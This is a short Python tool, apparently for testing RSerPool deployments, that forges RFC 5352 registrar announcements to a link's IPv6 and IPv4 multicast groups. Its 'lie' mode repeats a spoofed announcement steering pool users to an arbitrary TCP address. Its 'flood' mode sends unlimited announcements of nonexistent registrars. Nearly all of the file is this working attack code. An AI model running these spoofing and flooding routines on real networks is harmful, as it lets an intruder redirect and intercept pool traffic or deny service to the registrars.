# SPDX-License-Identifier: Apache-2.0
"""Announcements of registrars (RFC 5352 section 2.2.10) by somebody who has no right to, to both groups of a link.

  announce.py lie INTERFACE ADDRESS PORT        twice in a second a registrar over TCP at ADDRESS; ends when it is killed
  announce.py flood INTERFACE SECONDS           as many as it can of addresses that nobody has, and prints how many
"""
import socket
import struct
import sys
import time

PORT = 3863


def announcement(server, address, port):
    if ":" in address:
        inner = struct.pack("!HH", 2, 20) + socket.inet_pton(socket.AF_INET6, address)
    else:
        inner = struct.pack("!HH", 1, 8) + socket.inet_pton(socket.AF_INET, address)
    transport = struct.pack("!HHHH", 5, 8 + len(inner), port, 0) + inner
    return struct.pack("!BBHI", 0x0A, 0, 8 + len(transport), server) + transport


def sender(interface):
    index = socket.if_nametoindex(interface)
    six = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    six.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, index)
    four = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    four.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, struct.pack("=4s4si", bytes(4), bytes(4), index))

    def send(message):
        six.sendto(message, ("ff02::133", PORT, 0, index))
        try:
            four.sendto(message, ("224.0.1.185", PORT))
        except OSError:
            pass  # the link has no IPv4

    return send


def lie(interface, address, port):
    send = sender(interface)
    while True:
        send(announcement(0xBADBAD, address, int(port)))
        time.sleep(0.5)


def flood(interface, seconds):
    send = sender(interface)
    end, count = time.monotonic() + float(seconds), 0
    while time.monotonic() < end:
        for _ in range(100):
            count += 1
            send(announcement(count, f"2001:db8:bad::{count & 0xffff:x}", 3864))
    print(f"{count} announcements of {count} registrars in {seconds} s")


if __name__ == "__main__":
    {"lie": lie, "flood": flood}[sys.argv[1]](*sys.argv[2:])
